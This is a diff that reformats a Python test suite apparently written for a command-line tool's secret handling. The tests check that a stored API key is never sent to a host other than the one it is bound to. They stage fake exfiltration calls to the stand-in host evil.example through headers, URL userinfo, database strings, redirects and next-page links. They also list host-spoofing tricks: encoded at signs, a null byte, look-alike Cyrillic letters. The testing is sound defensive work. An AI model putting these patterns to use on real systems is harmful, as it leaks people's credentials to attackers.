@@ -20,6 +20,7 @@ Sending = Callable[[Attack, str, str], Any]
 
 def _api(**fields: Any) -> Sending:
     """An API source whose fields mention `${NAME}` as `@`, the host as `HOST` and an at sign as `§`."""
+
     async def send(attack: Attack, name: str, host: str) -> Said:
         return await attack.api(**_filled({"endpoint": "http://HOST/rows", **fields}, name, host))
 
@@ -47,32 +48,56 @@ def _source(**fields: Any) -> Sending:
 
 
 async def _trying(attack: Attack, name: str, host: str) -> Said:
-    return await attack("try_model", task=TASK, model="m", url=f"http://{host}/v1", text="x", api_key=f"${{{name}}}",
-                        confirm=True)
+    return await attack(
+        "try_model", task=TASK, model="m", url=f"http://{host}/v1", text="x", api_key=f"${{{name}}}", confirm=True
+    )
 
 
 async def _trying_by_address(attack: Attack, name: str, host: str) -> Said:
-    return await attack("try_model", task=TASK, model="m", url=f"http://me:${{{name}}}@{host}/v1", text="x", confirm=True)
+    return await attack(
+        "try_model", task=TASK, model="m", url=f"http://me:${{{name}}}@{host}/v1", text="x", confirm=True
+    )
 
 
 async def _proposing(attack: Attack, name: str, host: str) -> Said:
     await _unlabelled(attack)
-    return await attack("add_examples", task=TASK, action="propose", by="endpoint", confirm=True, settings={
-        "model": "m", "base_url": f"http://{host}/v1", "api_key": f"${{{name}}}", "limit": 2, "price_per_million_input": 0,
-        "price_per_million_output": 0})
+    return await attack(
+        "add_examples",
+        task=TASK,
+        action="propose",
+        by="endpoint",
+        confirm=True,
+        settings={
+            "model": "m",
+            "base_url": f"http://{host}/v1",
+            "api_key": f"${{{name}}}",
+            "limit": 2,
+            "price_per_million_input": 0,
+            "price_per_million_output": 0,
+        },
+    )
 
 
 async def _unlabelled(attack: Attack) -> None:
     """Rows that wait for a label."""
     victim = attack.victim
-    (victim.inbox / "open.csv").write_text("text\n" + "".join(f"letter {n * n} about {n} lamps\n" for n in range(30)),
-                                           encoding="utf-8")
+    (victim.inbox / "open.csv").write_text(
+        "text\n" + "".join(f"letter {n * n} about {n} lamps\n" for n in range(30)), encoding="utf-8"
+    )
     await attack.file(victim.inbox / "open.csv", unlabelled=True)
     await attack("prepare_data", task=TASK)
 
 
-_GENERATED = {"type": "llm_generated", "prompt_template": "{count} {label}", "model": "m", "retries": 0, "count": 2,
-              "base_url": "http://HOST/v1", "price_per_million_input": 0, "price_per_million_output": 0}
+_GENERATED = {
+    "type": "llm_generated",
+    "prompt_template": "{count} {label}",
+    "model": "m",
+    "retries": 0,
+    "count": 2,
+    "base_url": "http://HOST/v1",
+    "price_per_million_input": 0,
+    "price_per_million_output": 0,
+}
 PLACES: dict[str, Sending] = {
     "header": _api(headers={"X-Note": "@"}),
     "authorization header": _api(headers={"Authorization": "Bearer @"}),
@@ -94,7 +119,9 @@ PLACES: dict[str, Sending] = {
     "page's password": _source(type="web_scrape", urls=["http://me:@§HOST/rows"], delay_seconds=0, retries=0),
     "sitemap": _source(type="web_scrape", sitemaps=["http://HOST/map.xml?q=@"], delay_seconds=0, retries=0),
     "postgres user": _source(type="database", connection="postgresql://@:x§HOST:5432/db", query="SELECT 1", retries=0),
-    "postgres database": _source(type="database", connection="postgresql://me:x§HOST:5432/@", query="SELECT 1", retries=0),
+    "postgres database": _source(
+        type="database", connection="postgresql://me:x§HOST:5432/@", query="SELECT 1", retries=0
+    ),
     "key of a generation": _source(**_GENERATED, api_key="@"),
     "key in a generation's address": _source(**{**_GENERATED, "base_url": "http://HOST/v1/@"}),
     "prompt of a generation": _source(**{**_GENERATED, "prompt_template": "{count} {label} @"}),
@@ -128,8 +155,19 @@ async def test_no_other_variable_is_sent_either(victim: Victim, network: Network
     assert network.arrived(VALUE) == network.arrived(str(victim.home)) == []
 
 
-@pytest.mark.parametrize("place", ["header", "parameter", "bearer", "page", "postgres user", "key of a generation",
-                                   "key of a tried model", "key of a proposer"])
+@pytest.mark.parametrize(
+    "place",
+    [
+        "header",
+        "parameter",
+        "bearer",
+        "page",
+        "postgres user",
+        "key of a generation",
+        "key of a tried model",
+        "key of a proposer",
+    ],
+)
 async def test_a_secret_of_another_host_is_not_sent_and_the_command_is_named(
     victim: Victim, network: Network, place: str
 ) -> None:
@@ -138,18 +176,37 @@ async def test_a_secret_of_another_host_is_not_sent_and_the_command_is_named(
         await attack.create()
         said = await PLACES[place](attack, "NEWS_KEY", "evil.example")
     assert network.arrived(VALUE) == []
-    assert said.is_error and "nlp-skills secret" in said.text and "evil.example" in said.text and "NEWS_KEY" in said.text
+    assert (
+        said.is_error and "nlp-skills secret" in said.text and "evil.example" in said.text and "NEWS_KEY" in said.text
+    )
 
 
 def _kept(victim: Victim, host: str, name: str = "NEWS_KEY") -> None:
     victim.run("secret", "set", name, *(("--host", host) if host else ()), typed=f"{VALUE}\n")
 
 
-@pytest.mark.parametrize("host", [
-    "evil.example", "x.good.example", "good.example.evil.example", "evilgood.example", "good.example@evil.example",
-    "good.example:80@evil.example", "good.example%40evil.example", "evil.example:80#good.example", "evil.example/good.example",
-    "evil.example?good.example", "evil.example%23.good.example", "g\u043e\u043ed.example", "evil.example\\@good.example",
-    "good.example%00.evil.example", "good.example.@evil.example", "8.8.8.8", "127.0.0.1"])
+@pytest.mark.parametrize(
+    "host",
+    [
+        "evil.example",
+        "x.good.example",
+        "good.example.evil.example",
+        "evilgood.example",
+        "good.example@evil.example",
+        "good.example:80@evil.example",
+        "good.example%40evil.example",
+        "evil.example:80#good.example",
+        "evil.example/good.example",
+        "evil.example?good.example",
+        "evil.example%23.good.example",
+        "g\u043e\u043ed.example",
+        "evil.example\\@good.example",
+        "good.example%00.evil.example",
+        "good.example.@evil.example",
+        "8.8.8.8",
+        "127.0.0.1",
+    ],
+)
 async def test_no_writing_of_another_host_passes_for_the_bound_one(victim: Victim, network: Network, host: str) -> None:
     _kept(victim, "good.example")
     async with victim.attacked() as attack:
@@ -159,7 +216,9 @@ async def test_no_writing_of_another_host_passes_for_the_bound_one(victim: Victi
 
 
 @pytest.mark.parametrize("host", ["good.example", "GOOD.Example", "good.example.", "good.example:80"])
-async def test_the_bound_host_gets_its_secret_however_it_is_written(victim: Victim, network: Network, host: str) -> None:
+async def test_the_bound_host_gets_its_secret_however_it_is_written(
+    victim: Victim, network: Network, host: str
+) -> None:
     _kept(victim, "good.example")
     async with victim.attacked() as attack:
         await attack.create()
@@ -193,8 +252,12 @@ async def test_a_redirect_takes_no_secret_along(victim: Victim, network: Network
     network.web.serve("/moved", Reply(status=status, headers={"Location": to}))
     async with victim.attacked() as attack:
         await attack.create()
-        await attack.api("http://good.example/moved", headers={"X-Key": "${NEWS_KEY}"}, params={"q": "${NEWS_KEY}"},
-                         auth={"type": "bearer", "token": "${NEWS_KEY}"})
+        await attack.api(
+            "http://good.example/moved",
+            headers={"X-Key": "${NEWS_KEY}"},
+            params={"q": "${NEWS_KEY}"},
+            auth={"type": "bearer", "token": "${NEWS_KEY}"},
+        )
     assert network.arrived(VALUE, "good.example") or "good.example" in str(victim.answers)
     assert network.arrived(VALUE, "evil.example") == network.arrived(VALUE, "x.good.example") == []
 
@@ -204,13 +267,19 @@ async def test_a_next_page_elsewhere_takes_no_secret_along(victim: Victim, netwo
     _kept(victim, "good.example")
     onward = "http://evil.example/rows?page=2"
     rows = [{"text": f"letter {n * n} of the day", "label": "ab"[n % 2]} for n in range(9)]
-    network.web.serve("/first", as_json(rows, Link=f'<{onward}>; rel="next"') if form == "link"
-                      else as_json({"items": rows, "next": onward}))
+    network.web.serve(
+        "/first",
+        as_json(rows, Link=f'<{onward}>; rel="next"') if form == "link" else as_json({"items": rows, "next": onward}),
+    )
     pages = {"type": "link"} if form == "link" else {"type": "cursor", "next": "next", "param": "cursor"}
     async with victim.attacked() as attack:
         await attack.create()
-        await attack.api("http://good.example/first", headers={"X-Key": "${NEWS_KEY}"}, pagination=pages,
-                         records=None if form == "link" else "items")
+        await attack.api(
+            "http://good.example/first",
+            headers={"X-Key": "${NEWS_KEY}"},
+            pagination=pages,
+            records=None if form == "link" else "items",
+        )
         await attack("prepare_data", task=TASK)
     assert network.arrived(VALUE, "evil.example") == []
 
@@ -235,8 +304,15 @@ async def test_secret_set_binds_to_its_host(victim: Victim, network: Network) ->
     assert network.arrived(VALUE, "good.example") and victim.leaks(VALUE) == []
 
 
-@pytest.mark.parametrize("extra", [{"confirm": True}, {"override_reason": "the person agreed"}, {"allow_hosts": ["good.example"]},
-                                   {"secret_hosts": {"NEWS_KEY": ["good.example"]}}])
+@pytest.mark.parametrize(
+    "extra",
+    [
+        {"confirm": True},
+        {"override_reason": "the person agreed"},
+        {"allow_hosts": ["good.example"]},
+        {"secret_hosts": {"NEWS_KEY": ["good.example"]}},
+    ],
+)
 async def test_a_secret_without_a_host_is_bound_by_no_argument(
     victim: Victim, network: Network, extra: dict[str, Any]
 ) -> None:
@@ -270,7 +346,9 @@ async def test_a_form_binds_a_secret_to_the_host_it_names(
     assert network.arrived(VALUE, "evil.example") == []
 
 
-async def test_a_password_typed_into_a_call_stays_with_the_host_it_was_typed_for(victim: Victim, network: Network) -> None:
+async def test_a_password_typed_into_a_call_stays_with_the_host_it_was_typed_for(
+    victim: Victim, network: Network
+) -> None:
     async with victim.attacked() as attack:
         await attack.create()
         await attack.api("http://good.example/rows", auth={"type": "bearer", "token": VALUE})
@@ -282,14 +360,18 @@ async def test_a_password_typed_into_a_call_stays_with_the_host_it_was_typed_for
     assert network.arrived(VALUE) == []
 
 
-async def test_a_definition_that_came_from_elsewhere_sends_no_more_than_a_call(victim: Victim, network: Network) -> None:
+async def test_a_definition_that_came_from_elsewhere_sends_no_more_than_a_call(
+    victim: Victim, network: Network
+) -> None:
     _kept(victim, "good.example")
     async with victim.attacked() as attack:
         await attack.create()
         for name in (NAME, "NEWS_KEY"):
             (victim.task / "data_source.yaml").write_text(
                 f"format: 1\nsources:\n- {{type: api, endpoint: 'http://evil.example/rows', retries: 0, "
-                f"headers: {{X: '${{{name}}}'}}}}\n", encoding="utf-8")
+                f"headers: {{X: '${{{name}}}'}}}}\n",
+                encoding="utf-8",
+            )
             await attack("set_data_source", task=TASK)
             await attack("prepare_data", task=TASK, confirm=True)
     assert network.arrived(VALUE) == []
@@ -307,13 +389,18 @@ async def test_the_hub_gets_no_secret_but_its_own(
     assert said.is_error and "nlp-skills secret" in said.text and NAME in said.text
 
 
-async def test_a_page_of_a_bound_host_takes_no_secret_to_the_pages_it_leads_to(victim: Victim, network: Network) -> None:
+async def test_a_page_of_a_bound_host_takes_no_secret_to_the_pages_it_leads_to(
+    victim: Victim, network: Network
+) -> None:
     _kept(victim, "good.example")
-    network.web.serve("/map.xml", as_page(
-        "<urlset><url><loc>http://evil.example/page?a=1</loc></url></urlset>"))
+    network.web.serve("/map.xml", as_page("<urlset><url><loc>http://evil.example/page?a=1</loc></url></urlset>"))
     async with victim.attacked() as attack:
         await attack.create()
-        await attack.source(type="web_scrape", sitemaps=["http://me:${NEWS_KEY}@good.example/map.xml?q=${NEWS_KEY}"],
-                            delay_seconds=0, retries=0)
+        await attack.source(
+            type="web_scrape",
+            sitemaps=["http://me:${NEWS_KEY}@good.example/map.xml?q=${NEWS_KEY}"],
+            delay_seconds=0,
+            retries=0,
+        )
         await attack("prepare_data", task=TASK)
     assert network.arrived(VALUE, "evil.example") == []
